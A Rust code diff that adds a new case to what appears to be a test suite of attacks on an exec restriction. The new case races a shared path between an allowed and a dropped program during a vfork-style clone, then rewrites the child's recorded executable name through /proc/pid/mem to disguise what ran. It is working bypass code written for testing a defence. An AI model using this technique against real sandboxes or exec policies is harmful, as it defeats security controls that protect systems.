@@ -10,10 +10,10 @@ use super::{Attack, Result, call, tries};
 use std::ffi::CString;
 use std::fs::{self, File};
 use std::os::fd::AsRawFd;
-use std::os::unix::fs::{chroot, symlink};
+use std::os::unix::fs::{FileExt, chroot, symlink};
 use std::path::Path;
 use std::ptr;
-use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::atomic::{AtomicBool, AtomicI32, AtomicU64, Ordering};
 use std::thread;
 
 pub(crate) const ATTACKS: &[(&str, Attack)] = &[
@@ -29,6 +29,7 @@ pub(crate) const ATTACKS: &[(&str, Attack)] = &[
     ("exec-by-own-root", by_own_root),
     ("exec-interpreter", interpreter),
     ("exec-in-other-root", in_other_root),
+    ("exec-race-forged", race_forged),
 ];
 
 /// As the very first thing that the application does.
@@ -208,4 +209,72 @@ fn in_other_root() -> Result {
     drop_at("/tmp/root/tool")?;
     chroot("/tmp/root")?;
     run("/tool")
+}
+
+/// The name of a program of the image turns into that of another, and the copy of it that the kernel leaves with the new
+/// program is turned back by whoever may write to that one's memory.
+fn race_forged() -> Result {
+    for _ in 0..3 {
+        drop(run("/tool"));
+    }
+    let word = |name: &str| {
+        let mut bytes = [0; 8];
+        bytes[..name.len()].copy_from_slice(name.as_bytes());
+        u64::from_ne_bytes(bytes)
+    };
+    let (good, evil) = (word("/tool"), word(drop_at("/tmp/t")?));
+    let (path, child, over) = (
+        AtomicU64::new(good),
+        AtomicI32::new(0),
+        AtomicBool::new(false),
+    );
+    let is_over = || over.load(Ordering::Relaxed);
+    thread::scope(|scope| {
+        scope.spawn(|| {
+            for turn in 0.. {
+                if is_over() {
+                    break;
+                }
+                path.store([good, evil][turn % 2], Ordering::Relaxed);
+                (0..turn % 4000).for_each(|_| std::hint::spin_loop());
+            }
+        });
+        scope.spawn(|| {
+            while !is_over() {
+                forge(child.load(Ordering::Relaxed), evil, good);
+            }
+        });
+        let won = (0..tries() / 4).any(|_| spawned_told(path.as_ptr().cast(), &child));
+        over.store(true, Ordering::Relaxed);
+        if won { Ok(()) } else { Err(refused()) }
+    })
+}
+
+/// If its name is this one, it is the other from now on.
+fn forge(pid: i32, from: u64, to: u64) -> Option<()> {
+    let vector = fs::read(format!("/proc/{pid}/auxv")).ok()?;
+    let words: Vec<u64> = vector
+        .chunks_exact(8)
+        .map(|word| u64::from_ne_bytes(word.try_into().unwrap()))
+        .collect();
+    let name = words
+        .chunks_exact(2)
+        .find(|entry| entry[0] == libc::AT_EXECFN)?[1];
+    let place = format!("/proc/{pid}/mem");
+    let memory = File::options().read(true).write(true).open(place).ok()?;
+    let mut now = [0; 8];
+    memory.read_exact_at(&mut now[..7], name).ok()?;
+    (u64::from_ne_bytes(now) == from).then_some(())?;
+    memory.write_all_at(&to.to_ne_bytes()[..7], name).ok()
+}
+
+/// Tells who the child is while it still shares our memory.
+fn spawned_told(path: *const libc::c_char, child: &AtomicI32) -> bool {
+    let flags = libc::CLONE_VM | libc::CLONE_VFORK | libc::CLONE_PARENT_SETTID | libc::SIGCHLD;
+    let mut stack = vec![0_u8; 64 * 1024];
+    let top = unsafe { stack.as_mut_ptr().add(stack.len()) }.cast();
+    let mut given = (path, libc::AT_FDCWD);
+    let at = (&raw mut given).cast();
+    let started = unsafe { libc::clone(begin, top, flags, at, child.as_ptr()) };
+    started > 0 && ended(usize::try_from(started).unwrap()).is_ok()
 }
